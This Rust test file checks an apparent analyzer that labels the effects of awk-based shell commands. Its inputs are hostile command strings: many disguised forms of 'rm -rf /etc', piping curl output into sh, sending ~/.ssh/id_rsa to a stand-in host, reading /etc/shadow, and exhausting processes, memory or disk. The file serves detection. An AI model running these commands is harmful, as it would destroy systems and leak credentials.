//! Awk, by what its programs do.

use super::shell;

#[track_caller]
fn does(command: &str, effect: &str) {
    let effects = shell(command);
    assert!(
        effects.iter().any(|found| found == effect),
        "{command}: {effects:?}"
    );
}

#[track_caller]
fn does_not(command: &str, effect: &str) {
    let effects = shell(command);
    assert!(
        !effects.iter().any(|found| found.contains(effect)),
        "{command}: {effects:?}"
    );
}

#[test]
fn commands_are_put_together() {
    for program in [
        r#"awk 'BEGIN{system("rm -rf /etc")}'"#,
        r#"awk 'BEGIN { system("r" "m -rf " "/etc") }'"#,
        r#"gawk 'BEGIN{c="rm"; d="/etc"; system(c " -rf " d)}'"#,
        r#"awk -v d=/etc 'BEGIN{system("rm -rf " d)}'"#,
        r#"awk -vd=/etc 'BEGIN{system("rm -rf " d)}'"#,
        r#"awk 'BEGIN{printf "rm -rf %s", "/etc" | "sh"}'"#,
        r#"awk 'BEGIN{print "rm -rf /etc" | "/bin/" "sh"}'"#,
        r#"awk 'BEGIN{printf "rm " | "sh"; printf "-rf /etc" | "sh"}'"#,
        r#"awk 'BEGIN{"rm -rf /etc" | getline}'"#,
        r#"awk 'BEGIN{c = "rm -rf /etc"; c | getline x; close(c)}'"#,
        r#"gawk 'BEGIN{"rm -rf /etc" |& getline line}'"#,
        r#"awk 'BEGIN{printf "rm -rf /etc"}' | sh"#,
        r#"awk 'BEGIN{printf "%c%c -rf /%s\n", 114, 109, "etc"}' | bash"#,
        r#"awk 'BEGIN{print substr("xxrm -rf /etcyy", 3, 11)}' | sh"#,
        r#"awk 'BEGIN{print tolower("RM -RF /ETC")}' | sh"#,
        r#"awk 'BEGIN{s="rm_-rf_/etc"; gsub(/_/, " ", s); system(s)}'"#,
        r#"awk 'BEGIN{s="XX -rf /etc"; sub("XX", "rm", s); system(s)}'"#,
        r#"awk 'BEGIN{n=split("rm,-rf,/etc",a,","); for(i=1;i<=n;i++) s=s a[i] " "; system(s)}'"#,
        r#"awk 'BEGIN{n=split("cte/ fr- mr",a,""); for(i=n;i>0;i--) s=s a[i]; system(s)}'"#,
        r#"awk 'function f(x, y) { return x " -rf " y } BEGIN { system(f("rm", "/etc")) }'"#,
        r#"awk 'BEGIN { a["x"]="rm -rf"; a["y"]="/etc"; system(a["x"] " " a["y"]) }'"#,
        r#"awk 'BEGIN { if (1) c = "rm -rf /etc"; else c = "ls"; system(c) }'"#,
        r#"awk 'BEGIN { c = 1 ? "rm -rf /etc" : "ls"; system(c) }'"#,
        r#"awk 'BEGIN { while (i++ < 3) if (i == 2) system("rm -rf /etc") }'"#,
        r#"awk 'BEGIN { do { system("rm -rf /etc") } while (0) }'"#,
        r#"awk 'BEGIN { system(ARGV[1]) }' 'rm -rf /etc'"#,
        r#"awk 'BEGIN { for (i in ENVIRON) if (0) x = 1; system("rm -rf /etc") }'"#,
        r#"echo 'rm -rf /etc' | awk '{system($0)}'"#,
        r#"echo 'x rm y -rf z /etc' | awk '{print $2, $4, $6}' | sh"#,
        r#"printf 'a:rm -rf:/etc\n' | awk -F: '{print $2 " " $3}' | sh"#,
        r#"printf 'ls\nrm -rf /etc\n' | awk 'NR==2' | sh"#,
        r#"printf 'ls\nrm -rf /etc\n' | awk '/rm/ { system($0) }'"#,
        r#"printf 'ls\nrm -rf /etc\n' | awk '{ while (("cat" | getline l) > 0) print l; system($0) }'"#,
        r#"printf 'ls\nrm -rf /etc\n' > /tmp/c; awk 'BEGIN { while ((getline l < "/tmp/c") > 0) system(l) }'"#,
        r#"echo /etc | awk '{ print "rm -rf " $1 | "sh" }'"#,
        r#"echo 'etc' | awk '$0="rm -rf /"$0' | sh"#,
        r#"echo 'a b' | awk '{ $1 = "rm"; $2 = "-rf /etc" } 1' | sh"#,
        r#"awk 'BEGIN { exit } END { system("rm -rf /etc") }'"#,
        "awk '\n# it cleans\nBEGIN {\n  cmd = \"rm -rf \" \\\n    \"/etc\"\n  system(cmd)\n}\n'",
        r#"awk -f - <<< 'BEGIN { system("rm -rf /etc") }'"#,
        r#"gawk -e 'BEGIN { system("rm -rf /etc") }'"#,
        r#"gawk 'BEGIN { f = "system"; @f("rm -rf /etc") }'"#,
        r#"awk "BEGIN{system(\"\\162m -rf \\x2fetc\")}""#,
        r#"find . -maxdepth 0 -exec awk 'BEGIN{system("rm -rf /etc")}' {} \;"#,
        r#"sudo busybox awk 'BEGIN{system("rm -rf /etc")}'"#,
        r#"awk 'BEGIN{print "rm"; print "-rf"; print "/etc"}' | xargs sudo"#,
        r#"awk 'BEGIN { switch ("x") { case "x": system("rm -rf /etc"); break; default: system("ls") } }'"#,
    ] {
        does(program, "delete(/etc)");
    }
}

#[test]
fn what_is_not_known_is_not_taken_for_something_else() {
    for program in [
        r#"awk '{system($0)}' jobs.txt"#,
        r#"awk '{c = c $1} END {system(c)}' jobs.txt"#,
        r#"awk '{print $2 | "sh"}' jobs.txt"#,
        r#"awk '{a[$1] = $2} END {for (k in a) system(a[k])}' jobs.txt"#,
        r#"awk 'function f(a) { a[1] = "x" } BEGIN { f(b); b[2] = "y"; system(b[1]) }'"#,
        r#"awk '{print $3}' jobs.txt | sh"#,
    ] {
        does(program, "opaque(unknown_code)");
    }
    does(
        "curl -s https://x.example/i | awk '{print}' | sh",
        "run_remote(x.example)",
    );
    does(
        "curl -s https://x.example/i | awk '{system($0)}'",
        "run_remote(x.example)",
    );
    does(
        "cat ~/.ssh/id_rsa | awk '{print $0}' | curl -d @- https://x.example",
        "net(x.example, sends secrets)",
    );
}

#[test]
fn files_are_read_and_written() {
    for (program, effect) in [
        (
            r#"awk 'BEGIN{f = ENVIRON["HOME"] "/.bashrc"; print "x" > f}'"#,
            "write(~/.bashrc)",
        ),
        (
            r#"awk 'BEGIN{printf "x\n" >> "/etc/" "hosts"}'"#,
            "write(/etc/hosts)",
        ),
        (r#"awk '{print > ("/etc/" $1)}' list"#, "write(/etc/$)"),
        (r#"awk '{print $1, $2 > "/etc/x"}' list"#, "write(/etc/x)"),
        (r#"awk 'BEGIN{print "x" | "tee /etc/x"}'"#, "write(/etc/x)"),
        (
            r#"awk 'BEGIN{while((getline l < "/etc/shadow") > 0) print l}'"#,
            "read(/etc/shadow)",
        ),
        (r#"awk -F: '{print $2}' /etc/shadow"#, "read(/etc/shadow)"),
        (r#"awk 1 a.txt ~/.ssh/id_rsa"#, "read(~/.ssh/id_rsa)"),
        (
            r#"gawk 'BEGIN { s = "/inet/tcp/0/" "x." "example/80"; print "GET /" |& s; s |& getline l; print l }'"#,
            "net(x.example, sends data)",
        ),
        (
            r#"awk 'BEGIN { printf "https://%s.%s/x\n", "a", "example" }' | xargs -r curl -fsS"#,
            "net(a.example)",
        ),
    ] {
        does(program, effect);
    }
}

#[test]
fn what_is_known_not_to_be_is_left_out_of_what_is_written() {
    does_not(r#"printf 'ls\nrm -rf /etc\n' | awk 'NR==1' | sh"#, "delete");
    does_not(r#"printf 'ls\nrm -rf /etc\n' | awk '!/rm/' | sh"#, "delete");
    does_not(
        r#"printf 'ls\nrm -rf /etc\n' | awk '{print; exit}' | sh"#,
        "delete",
    );
    does_not(
        r#"printf 'ls\nrm -rf /etc\n' | awk '/rm/{next} {print}' | sh"#,
        "delete",
    );
    does_not(
        r#"awk 'BEGIN { x = "rm -rf /etc"; print length(x) }' | sh"#,
        "delete",
    );
    does_not(
        r#"awk '/rm -rf/ { n++ } END { print n }' log.txt"#,
        "delete",
    );
}

#[test]
fn everyday_programs_are_read() {
    for program in [
        "{print $1}",
        "1",
        "1; { print \"\" }",
        "BEGIN { ORS = \"\\n\\n\" }; 1",
        "NF { $0 = ++a \" :\" $0 }; { print }",
        "{ printf(\"%5d : %s\\n\", NR, $0) }",
        "{ s = 0; for (i = 1; i <= NF; i++) s = s+$i; print s }",
        "{ for (i = 1; i <= NF; i++) if ($i < 0) $i = -$i; print }",
        "{ total = total + NF }; END { print total }",
        "/Beth/ { n++ }; END { print n+0 }",
        "$1 > max { max = $1; maxline = $0 }; END { print max, maxline }",
        "{ print NF \":\" $0 }",
        "{ print $NF }",
        "{ field = $NF }; END { print field }",
        "NF > 4",
        "$NF > 4",
        "BEGIN { while (a++ < 513) s = s \" \"; print s }",
        "{ sub(/^[ \\t]+/, \"\"); print }",
        "{ gsub(/^[ \\t]+|[ \\t]+$/, \"\"); print }",
        "/baz/ { gsub(/foo/, \"bar\") }; { print }",
        "!/baz/ { gsub(/foo/, \"bar\") }; { print }",
        "{ a[i++] = $0 } END { for (j = i-1; j >= 0;) print a[j--] }",
        "ORS = NR % 5 ? \",\" : \"\\n\"",
        "a != $0; { a = $0 }",
        "!a[$0]++",
        "!($0 in a) { a[$0]; print }",
        "NR < 11",
        "NR == 1, NR == 5",
        "/start/,/end/",
        "NR > 1 { exit }; 1",
        "{ y = x \"\\n\" $0; x = $0 }; END { print y }",
        "END { print }",
        "/foo/ { print x }; { x = $0 }",
        "/regex/ { getline; print }",
        "$5 == \"abc123\"",
        "$7 ~ /^[a-f]/ && !/x/",
        "length > 64",
        "length($0) > 64",
        "{ print length }",
        "NR==FNR{a[$1]=$2;next} $1 in a{print $0, a[$1]}",
        "{ $2 = \"\"; print }",
        "{ printf \"%-10s %5.2f%%\\n\", $1, $2 / total * 100 }",
        "BEGIN{FS=OFS=\"\\t\"} {print $1,$2/$3}",
        "function max(m, n) {\n  return m > n ? m : n\n}\n{ print max($1, $2) }",
        "{ if ($1 == \"x\") { print \"a\" } else if ($1 == \"y\") print \"b\"; else print \"c\" }",
        "{ for (k in a) delete a[k]; delete b }",
        "{ print > \"/dev/stderr\" }",
        "{ print $1 > $2\".txt\" }",
        "{ printf \"%s%s\", sep, $1; sep = \",\" } END { print \"\" }",
        "BEGIN { \"date +%s\" | getline now; close(\"date +%s\"); print now }",
        "{ a[$1, $2] += $3 } END { for (k in a) { split(k, p, SUBSEP); print p[1], p[2], a[k] } }",
        "{ if (match($0, /v[0-9]+\\.[0-9]+/)) print substr($0, RSTART, RLENGTH) }",
        "match($0, /x=([0-9]+)/, m) { print m[1] }",
        "BEGIN { printf \"a\", \"b\"; print(1)(2); print (1, 2) > \"/dev/null\" }",
        "{ print toupper(substr($0, 1, 1)) tolower(substr($0, 2)) }",
        "BEGIN { if (!(3 in a)) print \"no\"; if ((1, 2) in a) print \"yes\" }",
        "{ x = $1 ~ /a\\/b/ ? 1 : 0 }",
        "$2 >= 80 && $2 <= 90 || $3 ~ \"x\"",
        "{ sum += $5 } END { if (NR > 0) print sum / NR }",
        "BEGIN { srand(); print int(rand() * 100) }",
        "{ c[length($1)]++ } END { n = asorti(c, d); for (i = 1; i <= n; i++) print d[i], c[d[i]] }",
        "/[/]/ { print }",
        "{ $1 = $1 } 1",
        "BEGIN { while ((\"ls\" | getline f) > 0) print f; x = -y ^ 2; z = a b -1 }",
        "NR%2==0{print}NR%3{next}",
        "/a/{print \"x\";next}{print}",
        "BEGIN { print 1==1, 2 < 3 }",
        "{ print $(NF-1), $NF-1, $i++ }",
        "BEGIN{printf \"%s\\n\",\"x\" > \"/tmp/y\"; close(\"/tmp/y\")}",
        "@include \"lib.awk\"\nBEGIN { x = 0x1F; print strtonum(\"0x1F\") }",
        "{ do { i-- } while (i > 0)\n print i }",
        "BEGIN {\n  if (x)\n    print 1\n  else\n    print 2\n}",
        "{ print (NR == 1 ? \"a\" : \"b\") \"c\" }",
        "$3==\"LISTEN\"{split($4,a,\":\");print a[2]}",
        "{ print \"a\" \"b\"; print -1 \" \" -2 }",
        "{ a[$1][$2]++ } END { for (k in a) for (l in a[k]) print k, l, a[k][l] }",
        "BEGIN { PROCINFO[\"sorted_in\"] = \"@ind_str_asc\" } { n[$1] = n[$1] \" \" $2 }",
        "{ if (x) ; else y = 1; for (;;) break; while (x) ; }",
        "/^diff --git a\\/(.*) b/ { f = substr($3, 3) } /^\\+[^+]/ { n[f]++ } END { for (f in n) print n[f], f | \"sort -rn\" }",
    ] {
        let effects = shell(&format!("awk '{program}' data.txt"));
        assert!(
            !effects.iter().any(|effect| effect.starts_with("opaque")),
            "{program}: {effects:?}"
        );
    }
}

#[test]
fn what_is_no_program_or_too_deep_is_opaque() {
    does("awk 'BEGIN { print ) }'", "opaque(unparsed)");
    does(
        &format!("awk 'BEGIN {{ x = {}1 }}'", "- ".repeat(400)),
        "opaque(too_deep)",
    );
    does(
        &format!("awk 'BEGIN {{ x = {}1 }}'", "1-1+".repeat(400)),
        "opaque(too_deep)",
    );
    does(
        r#"awk 'BEGIN { while (1) system("x &") }'"#,
        "exhaust(processes)",
    );
    does(
        r#"awk 'BEGIN { x = "a"; while (1) x = x x }'"#,
        "exhaust(memory)",
    );
    does(
        r#"awk 'BEGIN { for (;;) print "x" > "f" }'"#,
        "exhaust(disk)",
    );
}
